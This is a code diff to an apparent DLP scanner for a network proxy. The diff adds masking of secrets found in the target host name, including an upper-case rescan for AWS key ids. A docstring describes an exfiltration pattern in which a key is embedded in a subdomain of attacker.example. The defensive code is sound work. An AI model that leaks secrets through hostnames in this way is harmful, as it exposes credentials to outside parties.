@@ -217,6 +217,27 @@ def _mask_headers(
                 pair[0] = mask_text(pair[0], mine)
 
 
+def _mask_target_host(scanner: DlpScanner, event: dict[str, Any]) -> list[Hit]:
+    """A secret in the host the proxy connected to (`GET http://<key>.attacker.example/` with a harmless
+    Host header, or a CONNECT's target): masked in `target.host` and the summary, not only in the URL.
+    Hosts are case-insensitive and HTTP clients lower-case them, so the upper-cased host is scanned
+    too (an AWS key id only matches in upper case); its hits are returned to be recorded."""
+    target = event.get("target")
+    host = target.get("host") if isinstance(target, dict) else None
+    if not isinstance(host, str) or not host:
+        return []
+    found = scanner.engine.scan(host)
+    upper = [] if found else scanner.engine.scan(host.upper())
+    if not found and not upper:
+        return []
+    masked = mask_text(host, found) if found else mask_text(host.upper(), upper).lower()
+    target["host"] = masked  # type: ignore[index]
+    summary = event.get("summary")
+    if isinstance(summary, str) and host in summary:
+        event["summary"] = summary.replace(host, masked)
+    return upper
+
+
 def scan_event(scanner: DlpScanner, event: dict[str, Any], past_cap: Sequence[PastCapScan] = ()) -> None:
     """Scan a built network event, mask every hit in it and attach the `dlp` block (writer thread).
     `past_cap`: the scans of streamed bodies beyond what the tape keeps (their hits carry offsets)."""
@@ -238,6 +259,7 @@ def scan_event(scanner: DlpScanner, event: dict[str, Any], past_cap: Sequence[Pa
             if event.get("method"):
                 event["summary"] = f"{event['method']} {event['path'].split('?', 1)[0]}"[:300]
             hits.extend(_hit_record(scanner, h, "request") for h in url_hits)
+        hits.extend(_hit_record(scanner, h, "request") for h in _mask_target_host(scanner, event))
         _mask_headers(scanner, request, "request", hits)
         before = len(hits)
         _mask_body(scanner, (request or {}).get("body"), "request.body", hits)
